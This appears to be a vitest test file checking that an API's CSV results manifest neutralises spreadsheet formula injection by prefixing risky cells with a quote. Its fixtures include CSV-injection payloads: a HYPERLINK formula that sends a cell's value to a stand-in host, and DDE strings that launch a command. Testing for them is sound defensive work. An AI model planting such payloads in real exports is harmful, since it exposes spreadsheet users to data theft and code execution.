import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse } from "csv-parse/sync";
import { postBatchStream, ndjsonLines } from "../support/batches.ts";
import { call } from "../support/http.ts";
import { csvCell } from "../../apps/api/routes/batch-manifest.ts";
import { startStack, type Stack } from "../support/stack.ts";

// A results manifest opened in a spreadsheet must not run what a caller wrote into a cell (OWASP's
// CSV injection rule): a cell that starts with = + - @ TAB or CR is kept as text.
describe("the CSV results manifest", () => {
  let stack: Stack;
  beforeAll(async () => {
    stack = await startStack({ withWorker: false });
  });
  afterAll(async () => {
    await stack?.stop();
  });

  it("when callers' fields start like formulas, then each such cell is prefixed with a quote and reads back as the text it was", async () => {
    const { key } = await stack.newAccount();
    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\tTAB=1", "plain, with comma"];
    const image = "https://images.example/a.png";
    const created = await postBatchStream(
      stack.api.url,
      key,
      ndjsonLines(hostile.length, (i) => ({ image, external_task_id: hostile[i - 1], up_expansion_ratio: 0.1, down_expansion_ratio: 0, left_expansion_ratio: 0, right_expansion_ratio: 0 })),
    );
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    expect(created.body.intake.rejected, JSON.stringify(created.body)).toBe(0);
    expect(created.body.intake).toMatchObject({ accepted: hostile.length, rejected: 0 });

    const csv = await call(stack.api.url, "GET", `/v1/batches/${created.body.id}/results?format=csv`, { key });
    expect(csv.status).toBe(200);
    const rows: Record<string, string>[] = parse(csv.body as string, { columns: true });
    expect(rows.map((r) => r.external_task_id)).toEqual([
      `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
      "'+cmd|' /C calc'!A0",
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'-2+3",
      "'\tTAB=1",
      "plain, with comma",
    ]);
    // No cell of the file starts with a formula character, whatever its column.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("when a cell starts with CR (intake trims it from an id, so no caller field reaches here with one), then it is neutralised too", () => {
    expect(csvCell("\r=1+1")).toBe(`"'\r=1+1"`);
    expect(csvCell(-1)).toBe("'-1");
    expect(csvCell("a-b")).toBe("a-b");
  });
});
